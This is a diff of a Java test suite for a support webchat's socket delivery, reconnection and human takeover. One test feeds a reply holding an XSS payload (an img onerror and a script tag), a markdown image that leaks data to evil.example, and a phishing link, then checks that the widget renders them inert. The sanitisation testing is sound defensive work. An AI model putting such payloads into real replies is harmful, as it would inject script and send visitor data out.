@@ -84,7 +84,7 @@ class WebchatSocketTest {
         assertThat(second.path("seq").asLong()).isEqualTo(first.path("seq").asLong());
         assertThat(customerMessages(widget.visitorId())).isEqualTo(1);
         again.settle();
-        assertThat(again.frames("message")).isEmpty();
+        assertThat(again.frames("message")).filteredOn(f -> f.path("role").asString().equals("customer")).isEmpty();
         assertThat(socket.frames("message")).filteredOn(f -> f.path("clientId").asString().equals(id)).hasSize(1);
     }
 
@@ -92,7 +92,7 @@ class WebchatSocketTest {
     void aReconnectingWidgetGetsWhatItMissedOnceAndInOrder() {
         WidgetClient widget = new WidgetClient(api, ACME, SITE).session();
         WidgetClient.Socket socket = connect(widget).hello(null, 0);
-        UUID conversation = startConversation(socket, "hello");
+        UUID conversation = quietConversation(socket, "hello");
         reply(conversation, "first answer");
         JsonNode seen = socket.await("message", f -> f.path("text").asString().equals("first answer"));
         assertThat(deliveryStatus(seen)).isEqualTo("delivered");
@@ -120,7 +120,7 @@ class WebchatSocketTest {
     void aReconnectMidReplyShowsTheWholeDraftThenTheRestThenTheCommittedReply() {
         WidgetClient widget = new WidgetClient(api, ACME, SITE).session();
         WidgetClient.Socket socket = connect(widget).hello(null, 0);
-        UUID conversation = startConversation(socket, "when does the technician arrive?");
+        UUID conversation = quietConversation(socket, "when does the technician arrive?");
         UUID turn = UUID.randomUUID();
         stream(conversation, turn, "The technician ");
         stream(conversation, turn, "arrives ");
@@ -138,7 +138,7 @@ class WebchatSocketTest {
         assertThat(rest.path("text").asString()).isEqualTo("tomorrow.");
         TenantScope.run(ACME_ID, () -> outbound.send(conversation,
                 NewMessage.text(MessageRole.AI, "The technician arrives at 10:00 tomorrow.").withTurn(turn)));
-        JsonNode committed = resumed.await("message", f -> f.path("role").asString().equals("ai"));
+        JsonNode committed = resumed.await("message", f -> f.path("turnId").asString().equals(turn.toString()));
         assertThat(committed.path("turnId").asString()).isEqualTo(turn.toString());
         assertThat(assembled(resumed.frames("delta"))).isEqualTo("The technician arrives at 10:00 tomorrow.");
     }
@@ -162,12 +162,12 @@ class WebchatSocketTest {
     @Test
     void htmlAndRemoteImagesInARepliesReachTheWidgetInert() {
         WidgetClient.Socket socket = connect(new WidgetClient(api, ACME, SITE).session()).hello(null, 0);
-        UUID conversation = startConversation(socket, "show me");
+        UUID conversation = quietConversation(socket, "show me");
         reply(conversation, "Mira <img src=https://evil.example/p.png onerror=alert(1)><script>steal()</script>"
                 + "![mapa](https://evil.example/leak?d=C-1001) [detalles](https://acme.example/v/7) "
                 + "[paga aquí](https://evil.example/pay)");
 
-        JsonNode message = socket.await("message", f -> f.path("role").asString().equals("ai"));
+        JsonNode message = socket.await("message", f -> f.path("text").asString().startsWith("Mira"));
         String text = message.path("text").asString();
         assertThat(text).doesNotContain("<img", "<script", "steal", "evil.example", "onerror");
         assertThat(text).isEqualTo("Mira mapa [detalles](https://acme.example/v/7) paga aquí");
@@ -238,6 +238,19 @@ class WebchatSocketTest {
         String id = WidgetClient.newClientId();
         socket.say(id, text);
         return UUID.fromString(socket.await("ack", f -> f.path("id").asString().equals(id)).path("conversationId").asString());
+    }
+
+    /**
+     * A conversation the offline agent answered once and a human then took, so that only what a test sends
+     * reaches the visitor from then on.
+     */
+    UUID quietConversation(WidgetClient.Socket socket, String text) {
+        UUID conversation = startConversation(socket, text);
+        socket.await("message", f -> f.path("role").asString().equals("ai"));
+        UUID agent = fixtures.user(ACME_AGENT).id();
+        TenantScope.run(ACME_ID, () -> conversations.take(conversation, agent));
+        socket.await("status", f -> f.path("status").asString().equals("human"));
+        return conversation;
     }
 
     void reply(UUID conversation, String text) {
